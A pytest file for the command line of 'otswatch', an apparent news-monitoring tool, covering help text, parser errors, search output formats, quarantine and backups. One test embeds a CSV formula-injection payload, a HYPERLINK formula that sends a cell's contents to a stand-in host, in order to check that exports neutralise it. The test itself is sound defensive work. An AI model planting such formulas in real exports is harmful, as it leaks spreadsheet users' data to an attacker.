"""The command line as a user meets it: what it prints, on which channel, and its exit codes."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
import typer.main
from typer.testing import CliRunner

from otswatch import dossiers, taxonomy
from otswatch.bus import Outgoing
from otswatch.bus.sqlite import SqliteBus
from otswatch.cli import app, common, main
from otswatch.cli.common import write_csv
from otswatch.consumers.topology import CONSUMERS
from otswatch.index.projection import project_article
from otswatch.index.sqlite import SqliteIndex
from otswatch.records import Content, Page
from otswatch.status import Reason
from tests.commandline import Said, otswatch
from tests.factory import ABOUT, ELSEWHERE, FETCHED, article, page
from tests.test_docs import COMMANDS

HERE = "https://steppe-wire.example"
MINISTERS = ABOUT.format(title="Interior ministers meet in Samarkand", more="")
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n"

Command = Callable[..., Said]


@pytest.fixture
def command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> Command:
    """A command in this process, for what starts no others: fifty of them take a second."""
    # They are kept by the user's folder, and `otswatch.d` is another one in each test.
    taxonomy.load.cache_clear()
    dossiers.load.cache_clear()

    def run(*arguments: str, **settings: str) -> Said:
        with monkeypatch.context() as patch:
            patch.chdir(tmp_path)
            patch.setattr(sys, "argv", ["otswatch", *arguments])
            for name, value in settings.items():
                patch.setenv(f"OTSWATCH_{name.upper()}", value)
            with pytest.raises(SystemExit) as ended:
                main()
        out, err = capfd.readouterr()
        return Said(ended.value.code or 0, out, err)

    return run


def publish(data: Path, *pages: Page) -> None:
    """Put pages on the bus, as a crawl would."""
    with SqliteBus(data / "bus.sqlite") as bus:
        bus.publish([Outgoing("pages", each.id, each.to_json()) for each in pages])


# ------------------------------------------------------------------------------------------------------------ arguments


GROUPS = ("otswatch", "otswatch corrections", "otswatch quarantine", "otswatch taxonomy")


@pytest.mark.parametrize("path", [*GROUPS, *COMMANDS])
def test_every_command_explains_itself(path: str):
    shown = CliRunner().invoke(app, [*path.split()[1:], "--help"], env={"COLUMNS": "200"})
    assert shown.exit_code == 0
    assert "Usage: " in shown.output


def test_help_lists_every_command_with_a_line(command: Command):
    shown = command("--help").out
    for name in typer.main.get_command(app).commands:
        assert re.search(rf"│ {name} +\w", shown), name


@pytest.mark.parametrize(
    ("arguments", "error"),
    [
        ("crowl", "No such command 'crowl'. Did you mean 'crawl'?; see `otswatch --help`"),
        ("search --aera security", "No such option: --aera"),
        ("search --size 0", "Invalid value for '--size'"),
        ("search --size many", "Invalid value for '--size'"),
        ("search --since yesterday", "Invalid value for '--since'"),
        ("search --format xml", "Invalid value for '--format'"),
        ("quarantine purge", "No such command 'purge'"),
        ("quarantine replay", "name addresses, or --consumer for all of one; see `otswatch quarantine replay --help`"),
        ("process", "Missing argument"),
        ("reprocess", "Missing option '--since'"),
    ],
)
def test_what_the_parser_refuses_is_one_line_and_exit_code_2(command: Command, arguments: str, error: str):
    said = command(*arguments.split())
    assert (said.code, said.out) == (2, "")
    assert error in said.error


@pytest.mark.parametrize(
    ("arguments", "known"),
    [
        ("crawl nobody", "report-az"),
        ("consume extrakt", "extract, archive, stories, background, index"),
        ("quarantine list extrakt", "extract, archive, stories, background, index"),
        ("quarantine show extract/7", "quarantine list"),
        ("reprocess --since 2026-01-01 --stage clasify", "clean, date, classify, quotes"),
        ("search --sort oldest", "first_seen"),
        ("search colour:red", "area"),
    ],
)
def test_an_unknown_name_is_answered_with_the_known_ones(command: Command, arguments: str, known: str):
    said = command(*arguments.split())
    assert (said.code, said.out) == (2, "")
    assert known in said.error


@pytest.mark.parametrize("query", ['"open', "(a OR", "a AND", "NOT", "area:", "*"])
def test_a_query_that_cannot_be_read_is_one_line(command: Command, query: str):
    said = command("search", query)
    assert (said.code, said.out) == (2, "")
    assert said.error


@pytest.mark.parametrize(
    ("name", "value"),
    [("workers", "0"), ("workers", "two"), ("page_timeout", "-1"), ("log_level", "loud"), ("bus", "kafka://a:x")],
)
def test_a_bad_setting_is_named(command: Command, name: str, value: str):
    said = command("status", **{name: value})
    assert (said.code, said.out) == (2, "")
    assert said.error.startswith(f"OTSWATCH_{name.upper()}")


def test_no_command_shows_the_help(command: Command):
    assert "search" in command().out
    assert "replay" in command("quarantine").out


# ----------------------------------------------------------------------------------------------- before the first crawl


def test_an_empty_folder_is_no_error(command: Command):
    assert "extract" in command("status").out
    assert command("search").err == "0 of 0 articles\n"
    assert command("quarantine", "list").out == "nothing is in quarantine\n"
    assert json.loads(command("search", "--format", "json").out)["articles"] == []


def test_what_a_page_is_called_is_no_formula_in_a_spreadsheet(tmp_path: Path, command: Command):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Organization of Turkic States meets")'
    content = Content(title=title, text="The Organization of Turkic States met.", language="en", extractor="test/1")
    with closing(SqliteIndex(tmp_path / "data" / "index.sqlite")) as index:
        index.put([project_article(article("a", "", content=content))])
    [row] = csv.DictReader(io.StringIO(command("search", "--format", "csv", data=str(tmp_path / "data")).out))
    assert row["title"] == f"'{title}"


@pytest.mark.parametrize(("cell", "written"), [("+998 71 200", "'+998 71 200"), ("@x", "'@x"), ("-2 °C", "'-2 °C"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""), (-7, "-7"), (None, "")])  # fmt: skip
def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(
    capsys: pytest.CaptureFixture[str], cell: object, written: str
):
    write_csv(("id", "cell"), [("a", cell)])
    assert list(csv.reader(io.StringIO(capsys.readouterr().out, newline=""))) == [["id", "cell"], ["a", written]]


def test_every_csv_is_written_in_the_one_place_that_knows_of_formulas():
    places = {
        path.name for path in Path(common.__file__).parent.glob("*.py") if "csv.writer(" in path.read_text("utf-8")
    }
    assert places == {"common.py"}


def test_what_a_query_was_read_as_is_shown_and_can_be_switched_off(command: Command):
    shown = command("search", "Turkic Council")
    assert shown.out == ""
    assert "looked for Turkic Council: Organization of Turkic States, Türk Devletler* Teşkilat*" in shown.err
    assert "--exact" in shown.err
    found = json.loads(command("search", "Turkic Council", "--format", "json").out)
    assert [(note["typed"], note["keyword"]) for note in found["expanded"]] == [("Turkic Council", "body:ots")]
    assert command("search", "Turkic Council", "--exact").err == "0 of 0 articles\n"


def test_the_stages_are_listed_in_their_order(command: Command):
    shown = command("stages").out
    names = [*CONSUMERS, "clean", "date", "classify", "quotes", "dossiers"]
    places = [re.search(rf"^ *{name} ", shown, re.M).start() for name in names]
    assert places == sorted(places)


@pytest.mark.slow
def test_consuming_nothing_ends_at_once(tmp_path: Path):
    said = otswatch("consume", "--once", folder=tmp_path)
    assert (said.code, said.out) == (0, "")
    assert said.err == "nothing to do: every message is consumed\n"


# -------------------------------------------------------------------------------------------------- process and explain


@pytest.mark.slow
def test_process_reads_pages_texts_and_lines_in_order(tmp_path: Path):
    (tmp_path / "page.HTML").write_text(MINISTERS, encoding="utf-8")
    (tmp_path / "note.txt").write_text("A new bus line was opened in Little Hampton.", encoding="utf-8")
    lines = [{"html": MINISTERS, "url": f"{HERE}/1"}, {"text": "TDT dışişleri bakanları toplandı.", "source": "me"}]
    (tmp_path / "more.jsonl").write_text("\n\n".join(map(json.dumps, lines)), encoding="utf-8")
    said = otswatch("process", "page.HTML", "note.txt", "more.jsonl", folder=tmp_path)
    assert (said.code, said.err) == (0, "")
    first, second, third, fourth = map(json.loads, said.out.splitlines())
    assert (first["status"], first["published"]["at"]) == ("ok", "2026-03-02T14:05:00+05:00")
    assert (second["status"], second["reason"]) == ("discarded", "not-about-ots")
    assert (third["url"], third["content"]) == (f"{HERE}/1", first["content"])
    assert (fourth["source"], fourth["content"]["language"]) == ("me", "tr")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("given", "language"),
    [
        (MINISTERS, "en"),
        ("Ministers of the Organization of Turkic States met in Baku.", "en"),
        (json.dumps({"text": "Türk Devletleri Teşkilatı bakanları Bakü'de toplandı."}, ensure_ascii=False), "tr"),
    ],
    ids=["html", "text", "json"],
)
def test_process_sees_what_stands_on_standard_input(tmp_path: Path, given: str, language: str):
    said = otswatch("process", "-", folder=tmp_path, given=given)
    [article] = map(json.loads, said.out.splitlines())
    assert (said.code, article["status"], article["content"]["language"]) == (0, "ok", language)


@pytest.mark.slow
def test_explain_shows_values_beside_their_words(tmp_path: Path):
    (tmp_path / "page.html").write_text(MINISTERS, encoding="utf-8")
    said = otswatch("explain", "page.html", folder=tmp_path)
    assert (said.code, said.err) == (0, "")
    for shown in ("2026-03-02T14:05:00+05:00", "article:published_time", "security", "Daniyar Serikbayev"):
        assert shown in said.out


# ---------------------------------------------------------------------------------------------------------- a small run


@pytest.fixture(scope="module")
def collected(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder after a small crawl: two articles, one of them undated, one discarded page, a PDF."""
    folder = tmp_path_factory.mktemp("collected")
    undated = re.sub("<meta property.*>", "", ABOUT).format(title="Ministers speak", more=" They spoke of trade.")
    publish(
        folder / "data",
        page(f"{HERE}/ministers", MINISTERS),
        page(f"{HERE}/undated", undated),
        page(f"{HERE}/bus", ELSEWHERE.format(title="A new bus line")),
        page(f"{HERE}/plan.html", PDF),
    )
    said = otswatch("consume", "--once", folder=folder)
    assert said.code == 0, said.err
    assert re.search(r"extract +quarantined +not-html +1", said.out)
    assert re.search(r"extract +discarded +not-about-ots +1", said.out)
    # Three articles, two stories and what moved between them. What moved before the article came is nothing to do.
    counted = sum(int(count) for count in re.findall(r"index +(?:ok|stale) +(\d+)", said.out))
    assert counted == 8, said.out
    return folder


@pytest.mark.slow
def test_search_as_a_table_json_and_csv(collected: Path, command: Command):
    data = str(collected / "data")
    table = command("search", "Samarkand AND minist*", "--area", "security", data=data)
    assert table.code == 0
    assert "Interior ministers meet in Samarkand" in table.out
    assert f"{HERE}/ministers" in table.out
    assert "undated" in table.out

    found = json.loads(command("search", "--format", "json", "--size", "1", data=data).out)
    assert (found["total"], len(found["articles"])) == (2, 1)
    more = json.loads(command("search", "--format", "json", "--after", found["after"], data=data).out)
    assert {a["url"] for a in (*found["articles"], *more["articles"])} == {f"{HERE}/ministers", f"{HERE}/undated"}

    rows = list(csv.DictReader(io.StringIO(command("search", "--undated", "--format", "csv", data=data).out)))
    assert [(row["url"], row["published"]) for row in rows] == [(f"{HERE}/undated", "undated")]


@pytest.mark.slow
def test_a_filter_by_date_says_what_has_none(collected: Path, command: Command):
    said = command("search", "--since", "2026-03-01", data=str(collected / "data"))
    assert said.err == "1 of 1 articles; 1 more match but have no date\n"


@pytest.mark.slow
def test_what_was_discarded_can_be_looked_at(collected: Path, command: Command):
    found = json.loads(command("search", "--status", "discarded", "--format", "json", data=str(collected / "data")).out)
    assert [(a["url"], a["reason"]) for a in found["articles"]] == [(f"{HERE}/bus", Reason.NOT_ABOUT_OTS)]


@pytest.mark.slow
def test_status_counts_what_there_is(collected: Path, command: Command):
    shown = command("status", data=str(collected / "data")).out
    assert re.search(r"extract +stopped", shown)
    assert re.search(r"extract +pages +0 +4 +0", shown)
    assert re.search(r"articles +3 *$", shown, re.M)
    assert re.search(r"^ ok +2 *$", shown, re.M)
    assert re.search(r"discarded +not-about-ots +1", shown)
    assert re.search(r"extract +not-html +1 +0", shown)


@pytest.mark.slow
def test_quarantine_is_listed_shown_and_given_back(collected: Path, command: Command, tmp_path: Path):
    data = str(tmp_path / "data")  # a copy: what is given back changes what others see
    assert command("backup", data, data=str(collected / "data")).code == 0
    assert re.search(r"extract/0 .*not-html", command("quarantine", "list", data=data).out)
    shown = command("quarantine", "show", "extract/0", data=data).out
    assert re.search(r"^topic +pages$", shown, re.M)
    assert re.search(r"^reason +not-html$", shown, re.M)
    body = command("quarantine", "show", "extract/0", "--body", data=data).out
    assert Page.from_json(body).content() == PDF

    dry = command("quarantine", "replay", "--consumer", "extract", "--dry-run", data=data)
    assert (dry.code, dry.err) == (0, "0 of 1 given back; `otswatch consume --once` works on them\n")
    assert command("quarantine", "replay", "extract/0", data=data).err.startswith("1 of 1 given back")
    assert command("quarantine", "list", data=data).out == "nothing is in quarantine\n"
    assert "extract/0" in command("quarantine", "list", "--all", data=data).out
    with SqliteBus(tmp_path / "data" / "bus.sqlite") as bus:
        assert [lag.messages for lag in bus.lag("extract", ["pages"])] == [1]


@pytest.mark.slow
def test_a_backup_is_a_data_folder_and_never_overwrites(collected: Path, command: Command, tmp_path: Path):
    source, target = str(collected / "data"), str(tmp_path / "copy")
    assert command("backup", target, data=source).code == 0
    assert command("search", data=target).err == "2 of 2 articles\n"
    again = command("backup", target, data=source)
    assert (again.code, again.out) == (2, "")
    assert target in again.error


@pytest.mark.slow
def test_reprocess_finds_nothing_changed_by_the_same_code(collected: Path):
    day = f"{FETCHED:%Y-%m-%d}"
    said = otswatch("reprocess", "--since", day, "--dry-run", folder=collected)
    assert said.code == 0, said.err
    numbers = [line.split() for line in said.out.splitlines() if re.match(r" *\d", line)]
    assert numbers == [["4", "3", "0", "0", "0", "1", "0"]]
